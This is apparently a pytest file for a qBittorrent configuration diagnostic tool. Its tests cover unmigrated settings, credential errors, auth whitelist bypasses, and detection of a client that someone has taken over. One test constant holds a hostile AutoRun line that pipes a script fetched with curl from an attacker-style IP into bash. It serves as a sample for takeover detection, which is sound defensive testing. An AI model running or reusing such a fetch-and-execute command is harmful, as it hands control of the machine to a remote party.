"""What the config tells as a whole: an upgrade that left it behind, and signs that somebody else was there."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import ServerFactory
from tests.kit import namespaces
from tests.kit.matrix import Release
from tests.kit.namespaces import Net, net
from tests.kit.profile import config_text, free_port
from tests.kit.server import PASSWORD, password_hash
from tests.support.doctor import cause, causes, diagnose, qbdoctor

NOTIFIER = '/usr/local/bin/notify.sh \\"%N\\"'
FETCHED = 'program="bash -c \\"curl -fsSL http://203.0.113.7/x.sh | bash\\""'
HARMLESS = (
    'program="curl -s -d %N https://ntfy.example/torrents"',
    f'program="{NOTIFIER}"',
    "program=\"python3 /opt/scripts/done.py '%F'\"",
)


REASON = namespaces.unavailable()


def _not_migrated(number: int | None, extra: str = "") -> bytes:
    meta = f"[Meta]\nMigrationVersion={number}\n\n" if number is not None else ""
    web = {
        "Password_PBKDF2": password_hash(PASSWORD),
        "Username": "admin",
        "Address": "127.0.0.1",
        "MaxAuthenticationFailCount": "7",
    }
    return (meta + config_text(web, layout="old", port=free_port()) + extra).encode()


def test_settings_that_were_left_behind(server: ServerFactory, tmp_path: Path) -> None:
    running = server("5.3.0", raw_config=_not_migrated(11))
    report = diagnose("--profile", str(running.profile), password=PASSWORD)
    assert causes(report, "error") == ["settings-not-migrated"], report["verdict"]
    assert report["login_attempts"] <= 1
    fixes = [one["fix"] for one in cause(report, "settings-not-migrated")["remedies"]]
    assert fixes[0] == "migrate-settings"
    running.stop()
    before = running.config_file.read_bytes()
    done = qbdoctor("fix", "migrate-settings", "--yes", "--profile", str(running.profile))
    assert done.code == 0, done.err
    back = qbdoctor("rollback", "--last", "--yes", "--profile", str(running.profile))
    assert (back.code, running.config_file.read_bytes()) == (0, before)
    assert qbdoctor("fix", "migrate-settings", "--yes", "--profile", str(running.profile)).code == 0
    running.launch()
    report = diagnose("--profile", str(running.profile), password=PASSWORD)
    assert causes(report, "error") == [], report["verdict"]
    assert report["login_attempts"] == 1


def test_what_qbittorrent_migrates_itself_is_healthy(server: ServerFactory) -> None:
    running = server("5.3.0", raw_config=_not_migrated(8))
    report = diagnose("--profile", str(running.profile), password=PASSWORD)
    assert causes(report, "error") == [], report["verdict"]


def test_one_key_in_the_old_place_is_only_misplaced(server: ServerFactory) -> None:
    text = config_text({"Password_PBKDF2": password_hash(PASSWORD), "Address": "127.0.0.1"}, layout="new", port=0)
    text = text.replace("Port=0\n", "Port=%PORT%\n") + "\n[Preferences]\nWebUI\\MaxAuthenticationFailCount=9\n"
    running = server("5.3.0", raw_config=text.encode())
    report = diagnose("--profile", str(running.profile), password=PASSWORD)
    assert "settings-not-migrated" not in causes(report)
    assert causes(report, "error") == []


@pytest.mark.in_turn
def test_a_command_that_fetches_and_runs_code(server: ServerFactory, release: Release) -> None:
    web = {
        "Password_PBKDF2": password_hash("not theirs"),
        "Username": "root7",
        "Address": "127.0.0.1",
        "UseUPnP": "true",
    }
    text = config_text(web, layout="new" if release.version_tuple >= (5, 3) else "old", port=0).replace(
        "Port=0\n", "Port=%PORT%\n"
    )
    for line in (FETCHED, *HARMLESS):
        running = server(raw_config=(text + f"\n[AutoRun]\nenabled=true\n{line}\n").encode())
        report = diagnose("--profile", str(running.profile), "--username", "admin", password=PASSWORD)
        assert causes(report)[0] == "wrong-credentials"
        assert ("signs-of-takeover" in causes(report, "warning")) is (line == FETCHED), line
        assert "203.0.113.7" not in str(report)
        if line == FETCHED:
            assert "UPnP" in cause(report, "signs-of-takeover")["summary"]


def _taken_over(line: str) -> bytes:
    web = {"Password_PBKDF2": password_hash("not theirs"), "Username": "admin", "Address": "127.0.0.1"}
    text = config_text(web, layout="new", port=0).replace("Port=0\n", "Port=%PORT%\n")
    return (text + f"\n[AutoRun]\nenabled=true\n{line}\n").encode()


def test_a_new_password_waits_until_somebody_looked(server: ServerFactory) -> None:
    for line in (FETCHED, HARMLESS[0]):
        running = server("5.3.0", raw_config=_taken_over(line))
        report = diagnose("--profile", str(running.profile), password=PASSWORD)
        remedies = cause(report, "wrong-credentials")["remedies"]
        offered = "set-password" in [one["fix"] for one in remedies]
        assert offered is (line != FETCHED), line
        assert ("signs-of-takeover" in remedies[0]["text"]) is (line == FETCHED)
        running.stop()
        before = running.config_file.read_bytes()
        place = ("--profile", str(running.profile))
        unasked = qbdoctor("fix", "--yes", *place, password=PASSWORD)
        assert running.config_file.read_bytes() == before, unasked.out
        secret = running.profile / "new.txt"
        secret.write_text("one of our own\n")
        named = qbdoctor("fix", "set-password", "--dry-run", "--new-password-file", str(secret), *place)
        assert named.code == 0, named.err
        assert ("LOOK FIRST" in named.out) is (line == FETCHED), named.out


@pytest.mark.in_turn
def test_a_whitelist_that_can_meet_no_call(server: ServerFactory, release: Release) -> None:
    on = {"AuthSubnetWhitelistEnabled": "true", "AuthSubnetWhitelist": "192.168.7.0/24"}
    for settings, expected in (
        (on, True),
        ({**on, "AuthSubnetWhitelist": "192.168.7.0/24, 127.0.0.0/8"}, False),
        ({**on, "Address": "*"}, False),
        ({"AuthSubnetWhitelistEnabled": "true"}, True),
        ({}, False),
    ):
        running = server(settings=settings)
        report = diagnose("--profile", str(running.profile), password=PASSWORD)
        named = [*causes(report), *(each for one in report["causes"] for each in one["explains"])]
        assert ("bypass-cannot-apply" in named) is expected, (settings, named)
        assert causes(report, "error") == []
        running.stop()


@pytest.fixture
def inside() -> Iterator[Net]:
    with net() as made:
        yield made


@pytest.mark.skipif(REASON is not None, reason=REASON or "")
@pytest.mark.in_turn
def test_localhost_that_comes_from_the_lan_address(server: ServerFactory, release: Release, inside: Net) -> None:
    """With one address of a network, this machine's own calls come from there: LocalHostAuth=false lets nobody in."""
    off = {"LocalHostAuth": "false"}
    listed = {**off, "AuthSubnetWhitelistEnabled": "true", "AuthSubnetWhitelist": f"{inside.outer}/32"}
    for settings, address, expected in ((off, inside.outer, True), (listed, inside.outer, False), (off, "*", False)):
        running = server(settings=settings, address=address)
        report = diagnose("--profile", str(running.profile), password=PASSWORD)
        named = [*causes(report), *(each for one in report["causes"] for each in one["explains"])]
        assert ("bypass-cannot-apply" in named) is expected, (settings, address, named)
        assert (report["login_attempts"] == 1) is expected  # the server itself: a password is wanted, or is not
        running.stop()
